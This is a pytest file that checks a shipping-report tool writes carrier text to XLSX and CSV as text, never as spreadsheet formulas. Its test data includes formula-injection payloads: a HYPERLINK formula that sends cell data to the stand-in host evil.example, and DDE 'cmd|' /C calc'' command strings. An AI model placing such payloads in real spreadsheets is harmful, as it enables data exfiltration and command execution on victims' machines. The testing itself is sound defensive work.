"""Carrier text never runs as a spreadsheet formula in the monthly report (issue 15, item 6)."""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from recoup.reports.cells import neutralise
from recoup.reports.monthly import MonthlyReport, csv_path, write_csv, write_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def report() -> MonthlyReport:
    rep = MonthlyReport(month="2026-10", first=dt.date(2026, 10, 1), last=dt.date(2026, 10, 31),
                        as_of=dt.date(2026, 10, 31), near_days=3)
    for i, text in enumerate(HOSTILE, 1):
        rep.credits.append({"id": i, "invoice_date": dt.date(2026, 10, 5), "carrier": "ups",
                            "invoice_number": text, "tracking_number": text, "reference": text,
                            "description": text, "amount": Decimal("-12.34"), "matched": Decimal("0.00"),
                            "unmatched": Decimal("-12.34"), "currency": "USD", "claim_ids": "", "rules": ""})
    rep.findings.append({"id": 1, "ship_date": dt.date(2026, 10, 1), "kind": "late_delivery", "carrier": "ups",
                         "tracking_number": "-1234", "invoice_number": "=1+1", "amount": Decimal("24.35"),
                         "currency": "USD", "claimable": True, "missed_window": False,
                         "deadline": dt.date(2026, 10, 23), "claim_id": None, "claim_status": None,
                         "reason": "=cmd|' /C calc'!A0"})
    return rep


def test_xlsx_writes_carrier_text_as_text_never_formulas(tmp_path: Path) -> None:
    path = write_xlsx(report(), tmp_path / "r.xlsx")
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if ws.title == "Summary" and ws.cell(row=cell.row, column=1).value == "TOTAL":
                    continue  # recoup's own totals (SUMIF formulas), tested in test_reports_monthly.py
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
    head = [c.value for c in wb["Credits"][1]]
    col = {h: wb["Credits"].cell(row=1, column=j).column_letter for j, h in enumerate(head, 1)}
    seen = {c.value for c in wb["Credits"][col["description"]]}  # the text kept (XML reads CR as LF)
    assert {t.replace("\r", "\n") for t in HOSTILE} <= seen
    amounts = [c.value for c in wb["Credits"][col["amount"]][1:]]
    assert all(isinstance(v, int | float) for v in amounts)  # amounts stay numbers


def test_report_csv_neutralises_formula_leading_text_and_keeps_numbers(tmp_path: Path) -> None:
    path = write_csv(report(), tmp_path / "r.csv")

    def rows(section: str) -> list[dict[str, str]]:
        with csv_path(path, section).open(encoding="utf-8", newline="") as fh:
            return list(csv.DictReader(fh))

    credits = rows("credits")
    assert [r["description"] for r in credits] == ["'" + t.replace("\r", "\n") for t in HOSTILE]
    for r in credits:
        for key in ("invoice_number", "tracking_number", "reference", "description"):
            assert r[key].startswith("'")
        assert r["amount"] == "-12.34"   # a credit stays a negative number
    f = rows("findings")[0]
    assert f["tracking_number"] == "-1234"      # a plain number is not text to neutralise
    assert f["invoice_number"] == "'=1+1"
    assert f["reason"].startswith("'=")
    assert f["amount"] == "24.35"


@pytest.mark.parametrize(("text", "out"), [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-12.34", "-12.34"), ("-1+1", "'-1+1"), ("@x", "'@x"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), ("", ""), ("a=1", "a=1"),
])
def test_neutralise(text: str, out: str) -> None:
    assert neutralise(text) == out
